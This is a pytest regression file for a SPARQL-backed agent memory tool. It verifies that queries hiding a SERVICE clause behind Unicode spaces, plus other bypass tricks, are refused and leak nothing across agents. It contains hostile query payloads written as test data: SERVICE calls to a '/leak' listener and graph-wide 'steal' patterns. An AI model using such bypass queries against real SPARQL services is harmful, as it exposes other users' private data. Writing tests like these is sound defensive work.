"""Issue 33 F1-F2: a SERVICE hidden behind a Unicode space in an IRI reaches nothing (through
``sparql()``, the MCP ``sparql`` tool and its sandbox child, and an agent on a shared SPARQL
server)."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest
from mcp import Client, StdioServerParameters

from memory_rdf import MemoryManager, MemorySystem, SparqlError
from memory_rdf.tools import call_tool

from helpers import FAST, ScriptedModel, memory_rdf_command, remember
from servers import Server, SparqlRecorder, loopback

REPO = Path(__file__).resolve().parent.parent
CHECKOUT = {"PYTHONPATH": os.pathsep.join(filter(None, [str(REPO),
                                                        os.environ.get("PYTHONPATH")]))}
#: The spaces the issue names: each ended the guard's IRI, and the rest was read as a comment.
SPACES = ["\u00a0", "\u2028", "\u3000", "\u202f"]


def hidden_service(space: str, url: str, pattern: str = "{ ?a ?b ?c }") -> str:
    return f"SELECT * WHERE {{ BIND(<http://x/{space}#> AS ?z) SERVICE <{url}> {pattern} }}"


@pytest.fixture()
def listener() -> Iterator[tuple[str, list[str]]]:
    requests: list[str] = []
    with loopback(type("Handler", (SparqlRecorder,), {"requests": requests})) as base:
        yield base, requests


# -- F1 ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("space", SPACES)
def test_sparql_sends_nothing_for_a_service_behind_a_unicode_space(
    space: str, tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    base, requests = listener
    with MemoryManager("f1", data_dir=tmp_path, config=FAST, model=ScriptedModel()) as mem:
        remember(mem, "secret: my PIN is 4711")
        with pytest.raises(SparqlError, match="SERVICE is refused"):
            mem.sparql(hidden_service(space, f"{base}/leak",
                                      "{ ?n memory:content ?c BIND(?c AS ?q) }"))
        assert mem.sparql(f"SELECT * WHERE {{ BIND(<http://x/{space}y> AS ?z) }}") == [
            {"z": f"http://x/{space}y"}]  # such an IRI alone is fine
    time.sleep(0.2)
    assert requests == []


def test_the_mcp_sparql_tool_and_its_child_send_nothing(tmp_path: Path,
                                                        listener: tuple[str, list[str]]) -> None:
    base, requests = listener
    params = StdioServerParameters(
        command=memory_rdf_command(), args=["serve", "--data-dir", str(tmp_path / "d")],
        env={"MEMORY_RDF_MODEL": "heuristic", **CHECKOUT},
    )
    answers: list[tuple[bool, str]] = []

    async def main() -> None:
        async with Client(params) as client:
            ack = await client.call_tool("remember", {"messages": [
                {"role": "user", "content": "secret: my PIN is 4711"}]})
            assert not ack.is_error
            for space in SPACES:
                result = await client.call_tool("sparql", {"query": hidden_service(
                    space, f"{base}/leak?q=secret")})
                answers.append((result.is_error, str(result.content[0].text)))
            ok = await client.call_tool("sparql", {"query": "ASK { }"})
            # the default agent was used: the answer names it (SPEC §9 v3)
            assert not ok.is_error
            assert json.loads(str(ok.content[0].text)) == {"agent_id": "default", "result": True}

    anyio.run(main)
    assert len(answers) == len(SPACES)
    for is_error, text in answers:
        assert is_error and "SERVICE is refused" in text, text
    time.sleep(0.2)
    assert requests == []


def test_the_sandbox_child_checks_in_full(tmp_path: Path) -> None:
    # The tool's own process reads the query with the tokenizer only (parse=False); the child
    # parses it before its engine sees it: what only the parse tree refuses is refused there.
    with MemoryManager("f1c", data_dir=tmp_path, config=FAST, model=ScriptedModel()) as mem:
        remember(mem, "secret")
        with pytest.raises(SparqlError, match="FROM is refused"):
            call_tool(mem, "sparql", {"query": "SELECT * FROM <urn:x> { ?s ?p ?o }"})
        with pytest.raises(SparqlError, match="standard SPARQL 1.1"):
            call_tool(mem, "sparql", {"query": "SELECT * { ?s ?p ?o LATERAL { ?s ?p ?o } }"})


# -- F2 ----------------------------------------------------------------------------------------


def test_an_endpoint_agent_cannot_read_another_through_service(oxigraph_server: Server) -> None:
    server = oxigraph_server
    try:
        with server.endpoint() as ep, MemorySystem(endpoint=ep, model=ScriptedModel(),
                                                   config=FAST) as system:
            alice, mallory = system.agent("alice"), system.agent("mallory")
            remember(alice, "alice secret: my PIN is 4711")
            remember(mallory, "mallory's own note")
            steal = "{ GRAPH ?g { ?n memory:content ?c } }"
            for space in SPACES:
                with pytest.raises(SparqlError, match="SERVICE is refused"):
                    mallory.sparql(hidden_service(space, server.query_url, steal))
            for query in (f"SELECT * WHERE {{ SERVICE <{server.query_url}> {steal} }}",
                          "SELECT * WHERE { ?x ?y ?z # \r GRAPH ?g { ?n memory:content ?c }\n }",
                          f"SELECT * FROM <{server.query_url}> WHERE {{ ?n memory:content ?c }}"):
                with pytest.raises(SparqlError, match="is refused"):
                    mallory.sparql(query)
            # what mallory may run sees mallory's graph alone (the protocol's dataset)
            rows = mallory.sparql("SELECT ?c WHERE { ?n memory:content ?c }")
            assert rows == [{"c": "mallory's own note"}]
    finally:
        server.clear()


def test_serve_agents_keeps_another_agents_secret_from_the_sparql_tool(
    oxigraph_server: Server,
) -> None:
    server = oxigraph_server
    try:
        with server.endpoint() as ep, MemorySystem(endpoint=ep, model=ScriptedModel(),
                                                   config=FAST) as system:
            remember(system.agent("alice"), "alice secret: my PIN is 4711")
            remember(system.agent("mallory"), "mallory was here")
        params = StdioServerParameters(
            command=memory_rdf_command(),
            args=["serve", "--endpoint", server.query_url, "--update-url", server.update_url,
                  "--agents", "mallory"],
            env={"MEMORY_RDF_MODEL": "heuristic", **CHECKOUT},
        )
        texts: list[str] = []

        async def main() -> None:
            async with Client(params) as client:
                steal = "{ GRAPH ?g { ?n memory:content ?c } }"
                for space in SPACES:
                    result = await client.call_tool("sparql", {"query": hidden_service(
                        space, server.query_url, steal)})
                    assert result.is_error
                    texts.append(str(result.content[0].text))
                refused = await client.call_tool("recall", {"keywords": ["PIN"],
                                                            "agent_id": "alice"})
                assert refused.is_error
                mine = await client.call_tool("sparql", {
                    "query": "SELECT ?c WHERE { ?n memory:content ?c }"})
                texts.append(str(mine.content[0].text))

        anyio.run(main)
        assert all("SERVICE is refused" in t for t in texts[:-1]), texts
        assert "mallory was here" in texts[-1]
        assert not any("4711" in t for t in texts)
    finally:
        server.clear()
